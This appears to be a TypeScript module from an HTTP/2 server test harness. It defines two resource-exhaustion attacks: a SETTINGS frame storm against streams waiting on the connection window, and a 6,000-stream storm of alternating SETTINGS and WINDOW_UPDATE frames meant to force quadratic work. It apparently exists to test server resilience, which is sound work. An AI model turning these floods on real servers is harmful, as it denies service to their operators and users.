import type { Attack } from '../attack-definition.js';
import type { Attacker } from '../attacker.js';
import { requestFields } from '../identities.js';
import { largeDocument } from './large-document.js';
import { INITIAL_WINDOW_SIZE, settings, windowUpdate } from '../../support/http2-frames.js';
import type { RawHttp2 } from '../wire/raw-http2.js';

const CONNECTIONS = 4;
/** Below the limit of empty frames that a client may send. */
const BURST = 9000;
const FRAMES_PER_SECOND = 900;
const CHUNK = 300;
const STREAMS = 100;
const WINDOW = 65_535;
const SETTLE_MS = 200;

/**
 * Responses that wait for the connection's window, which the first one has used up. Their own windows are open, so that each change of
 * those may tempt a server to examine all of them.
 */
async function waitingAnswers(attacker: Attacker, streams: number): Promise<RawHttp2> {
  const connection = await attacker.http2({ polite: false });
  await attacker.pause(SETTLE_MS);
  const count = Math.min(streams, connection.maxStreams);
  const large = connection.headers(connection.nextStream(), largeDocument(attacker));
  await connection.send(large);
  await connection.answered(1, 2000);
  const small = requestFields('GET', '/apis');
  await connection.send(...Array.from({ length: count - 1 }, () => connection.headers(connection.nextStream(), small)));
  await connection.answered(count, 2000);
  return connection;
}

/** Sends a burst, then a steady rate, until the connection ends. */
async function storm(attacker: Attacker, connection: RawHttp2, frameOf: (index: number) => Buffer): Promise<void> {
  for (let index = 0; index < BURST && !connection.isOver; index += CHUNK) {
    await connection.send(...Array.from({ length: CHUNK }, (_, at) => frameOf(index + at)));
  }
  attacker.note('frames in bursts', BURST);
  await attacker.atRate(FRAMES_PER_SECOND, connection, (index) => connection.write(frameOf(index)));
}

export const settingsStorm: Attack = {
  name: 'settings-storm',
  about: '100 responses that wait for a window, then 9,000 SETTINGS (135 kB) that change all windows: work per response and frame',
  run: (attacker) =>
    attacker.lanes(CONNECTIONS, async () => {
      const connection = await waitingAnswers(attacker, STREAMS);
      await storm(attacker, connection, (index) => settings([[INITIAL_WINDOW_SIZE, WINDOW - (index % 2)]]));
    }),
};

const MANY_STREAMS = 6000;

export const streamStorm: Attack = {
  name: 'stream-storm',
  about: 'as many waiting responses as the server allows (6,000 here), then alternating SETTINGS and WINDOW_UPDATE: quadratic work',
  serverFlags: [`--http2-max-streams-per-connection=${MANY_STREAMS}`],
  run: (attacker) =>
    attacker.lanes(1, async () => {
      const connection = await waitingAnswers(attacker, MANY_STREAMS);
      await attacker.atRate(20, connection, (index) =>
        connection.write(settings([[INITIAL_WINDOW_SIZE, WINDOW - (index % 2)]]), windowUpdate(0, 1), windowUpdate(1, 1)),
      );
    }),
};
